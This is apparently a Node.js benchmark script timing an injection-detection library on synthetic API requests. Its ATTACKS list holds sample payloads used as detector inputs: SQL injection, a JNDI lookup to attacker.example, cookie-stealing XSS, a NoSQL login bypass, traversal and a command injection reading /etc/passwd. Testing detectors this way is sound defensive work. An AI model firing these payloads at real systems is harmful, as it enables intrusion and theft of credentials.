#!/usr/bin/env node
// CPU cost of one `inspect` call of @rampart/injection's inspector on the requests a JSON API gateway sees.
//
//   npx tsc -b packages/injection && node bench/injection-inspect-cost.mjs [--runs 15] [--pool 4096] [--seed 1]
//       [--paranoia 1] [--compare /path/to/another/build/dist/index.js]
//
// Clean mix: 8 headers (host, a browser or SDK user agent, accept, accept-encoding, accept-language, content-type, a
// JWT bearer `authorization`, an `x-request-id` UUID), a path with an id and 2–3 query parameters, and a parsed JSON
// body of 200–2,000 bytes (nested objects and arrays of names, emails, UUIDs, ISO dates, amounts, enums, short
// free text). The pool holds `--pool` distinct requests (the inspector's verdict cache keeps 2,048 values per kind,
// so values that are unique per request miss it as they would in production, while user agents and enums hit it).
// Attack mix: a few requests that each carry one injection (SQLi, XSS, JNDI, NoSQL operator, traversal, command).
//
// Each run inspects the whole pool once; the figure is ns per inspect of the best of `--runs` runs (the least
// disturbed by other processes on a shared machine). With `--compare`, a second build is loaded, runs alternate
// between the two, every request's hits are checked to be identical, and the ratio is printed.
import { pathToFileURL } from 'node:url';
import { isDeepStrictEqual } from 'node:util';

const args = process.argv.slice(2);
const flag = (name, fallback) => {
  const i = args.indexOf(`--${name}`);
  return i >= 0 ? args[i + 1] : fallback;
};
const RUNS = Number(flag('runs', '15'));
const POOL = Number(flag('pool', '4096'));
const paranoia = Number(flag('paranoia', '1'));
let seed = Number(flag('seed', '1'));
const compare = flag('compare', undefined);

function rand() {
  // mulberry32
  seed |= 0;
  seed = (seed + 0x6d2b79f5) | 0;
  let t = Math.imul(seed ^ (seed >>> 15), 1 | seed);
  t = (t + Math.imul(t ^ (t >>> 7), 61 | t)) ^ t;
  return ((t ^ (t >>> 14)) >>> 0) / 4294967296;
}
const pick = (xs) => xs[Math.floor(rand() * xs.length)];
const int = (a, b) => a + Math.floor(rand() * (b - a + 1));
const hex = (n) => Array.from({ length: n }, () => '0123456789abcdef'[int(0, 15)]).join('');
const uuid = () => `${hex(8)}-${hex(4)}-4${hex(3)}-${pick(['8', '9', 'a', 'b'])}${hex(3)}-${hex(12)}`;
const b64url = (s) => Buffer.from(s).toString('base64url');
const date = () =>
  new Date(Date.UTC(2024, int(0, 11), int(1, 28), int(0, 23), int(0, 59), int(0, 59))).toISOString();

const FIRST = [
  'Liam',
  'Olivia',
  'Noah',
  'Emma',
  'Zoë',
  'José',
  'Amara',
  'Wei',
  'Priya',
  'Lukas',
  'Sofia',
  'Mateo',
];
const LAST = [
  'Smith',
  'García',
  'Nguyen',
  'Okafor',
  'Müller',
  'Kowalski',
  'Tanaka',
  'Rossi',
  'Haddad',
  'Silva',
];
const DOMAINS = ['example.com', 'mail.example.org', 'corp.example.net', 'example.co.uk'];
const WORDS = [
  'order',
  'shipping',
  'delivery',
  'invoice',
  'blue',
  'large',
  'gift',
  'wrap',
  'please',
  'leave',
  'at',
  'door',
  'thanks',
  'fragile',
  'weekend',
  'morning',
];
const USER_AGENTS = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4_1) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4.1 Safari/605.1.15',
  'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0',
  'okhttp/4.12.0',
  'MyShop-iOS/3.14.2 (iPhone; iOS 17.4; Scale/3.00)',
  'python-requests/2.31.0',
];
const ACCEPTS = ['application/json', 'application/json, text/plain, */*', '*/*'];
const LANGUAGES = ['en-US,en;q=0.9', 'de-DE,de;q=0.9,en;q=0.8', 'fr-FR,fr;q=0.8'];
const STATUSES = ['pending', 'paid', 'shipped', 'delivered', 'cancelled'];
const JWTS = Array.from(
  { length: 64 },
  (_, i) =>
    `${b64url('{"alg":"RS256","typ":"JWT","kid":"k1"}')}.${b64url(
      JSON.stringify({
        sub: `user-${i}`,
        iss: 'https://auth.example.com/',
        exp: 1735689600 + i,
        scope: 'orders:read',
      }),
    )}.${b64url(hex(128))}`,
);

const name = () => `${pick(FIRST)} ${pick(LAST)}`;
const email = () => `${pick(FIRST).toLowerCase()}.${pick(LAST).toLowerCase()}${int(1, 99)}@${pick(DOMAINS)}`;
const sentence = () => Array.from({ length: int(3, 10) }, () => pick(WORDS)).join(' ');

function body() {
  const lines = Array.from({ length: int(1, 8) }, () => ({
    sku: `SKU-${hex(6).toUpperCase()}`,
    productId: uuid(),
    quantity: int(1, 5),
    unitPrice: int(100, 99999) / 100,
    tags: [pick(WORDS), pick(WORDS)],
  }));
  return {
    id: uuid(),
    status: pick(STATUSES),
    createdAt: date(),
    customer: { id: uuid(), name: name(), email: email(), phone: `+1${int(2000000000, 9999999999)}` },
    shipping: {
      street: `${int(1, 999)} ${pick(LAST)} Street`,
      city: pick(['Berlin', 'Austin', 'Lyon', 'Osaka']),
      postcode: String(int(10000, 99999)),
      country: pick(['DE', 'US', 'FR', 'JP']),
    },
    lines,
    note: sentence(),
    total: int(100, 999999) / 100,
    currency: pick(['EUR', 'USD', 'JPY']),
    giftWrap: rand() < 0.3,
  };
}

function cleanRequest() {
  const query = [`include=${pick(['items', 'customer', 'items,customer'])}`, `page=${int(1, 40)}`];
  if (rand() < 0.5) query.push(`sort=${pick(['-createdAt', 'total', 'status'])}`);
  return {
    path: `/api/v1/orders/${uuid()}?${query.join('&')}`,
    headers: {
      host: 'api.example.com',
      'user-agent': pick(USER_AGENTS),
      accept: pick(ACCEPTS),
      'accept-encoding': 'gzip, deflate, br',
      'accept-language': pick(LANGUAGES),
      'content-type': 'application/json',
      authorization: `Bearer ${pick(JWTS)}`,
      'x-request-id': uuid(),
    },
    body: body(),
  };
}

const ATTACKS = [
  { path: "/api/v1/orders?id=1'%20OR%20'1'%3D'1&page=2", headers: { 'user-agent': USER_AGENTS[0] } },
  { path: '/api/v1/orders', headers: { 'user-agent': '${jndi:ldap://attacker.example/a}' } },
  { path: '/api/v1/notes', body: { note: '<img src=x onerror=alert(document.cookie)>', tags: ['a'] } },
  { path: '/api/v1/login', body: { user: 'admin', password: { $ne: null } } },
  { path: '/api/v1/files?name=..%2F..%2F..%2Fetc%2Fpasswd', headers: { accept: 'application/json' } },
  { path: '/api/v1/ping', body: { host: '127.0.0.1; cat /etc/passwd', count: 3 } },
  { path: '/api/v1/search?q=1%20UNION%20SELECT%20username,password%20FROM%20users--', headers: {} },
  { path: '/api/v1/render', body: { template: '{{7*7}}${7*7}<%= 7*7 %>', locale: 'en' } },
];

async function load(specifier) {
  const mod = await import(specifier);
  return mod.createInjectionInspector({ paranoia });
}

const pool = Array.from({ length: POOL }, cleanRequest);
const bodyBytes = pool.map((r) => JSON.stringify(r.body).length).sort((a, b) => a - b);
const builds = [{ label: 'this build', inspector: await load('../packages/injection/dist/index.js') }];
if (compare !== undefined)
  builds.push({ label: `compare ${compare}`, inspector: await load(pathToFileURL(compare).href) });

// Sanity and equivalence: clean requests raise nothing, every attack raises something, and both builds agree.
for (const b of builds) {
  const fired = pool.filter((r) => b.inspector.inspect(r).length > 0).length;
  const missed = ATTACKS.filter((r) => b.inspector.inspect(r).length === 0).length;
  if (fired > 0 || missed > 0)
    console.log(`WARNING ${b.label}: ${fired} clean requests fired, ${missed} attacks missed`);
}
if (builds.length === 2) {
  const [a, b] = builds;
  const differ = [...pool, ...ATTACKS].filter(
    (r) => !isDeepStrictEqual(a.inspector.inspect(r), b.inspector.inspect(r)),
  );
  console.log(
    `hits identical between the builds: ${differ.length === 0 ? 'yes' : `NO, ${differ.length} requests differ`}`,
  );
}

/** ns per inspect for one pass over `requests`, repeated `times` times. */
function measure(inspector, requests, times) {
  const t0 = process.hrtime.bigint();
  for (let k = 0; k < times; k++) for (let i = 0; i < requests.length; i++) inspector.inspect(requests[i]);
  return Number(process.hrtime.bigint() - t0) / (requests.length * times);
}

const attackTimes = Math.max(1, Math.round(POOL / ATTACKS.length / 4));
const best = builds.map(() => ({ clean: Infinity, attack: Infinity }));
for (let run = 0; run < RUNS + 2; run++) {
  for (let b = 0; b < builds.length; b++) {
    const { inspector } = builds[(b + run) % builds.length];
    const slot = best[(b + run) % builds.length];
    const clean = measure(inspector, pool, 1);
    const attack = measure(inspector, ATTACKS, attackTimes);
    if (run < 2) continue; // warm-up runs
    slot.clean = Math.min(slot.clean, clean);
    slot.attack = Math.min(slot.attack, attack);
  }
}

console.log(
  `inspector cost, paranoia ${paranoia}, best of ${RUNS} runs; clean pool ${POOL} requests (JSON body ${bodyBytes[0]}–${bodyBytes[bodyBytes.length - 1]} bytes, median ${bodyBytes[bodyBytes.length >> 1]}), ${ATTACKS.length} attack requests`,
);
for (let b = 0; b < builds.length; b++)
  console.log(
    `${builds[b].label.padEnd(12)}  clean ${best[b].clean.toFixed(0).padStart(6)} ns/inspect   attack ${best[b].attack.toFixed(0).padStart(6)} ns/inspect`,
  );
if (builds.length === 2)
  console.log(
    `this build / compare: clean ${(best[0].clean / best[1].clean).toFixed(3)}, attack ${(best[0].attack / best[1].attack).toFixed(3)}`,
  );
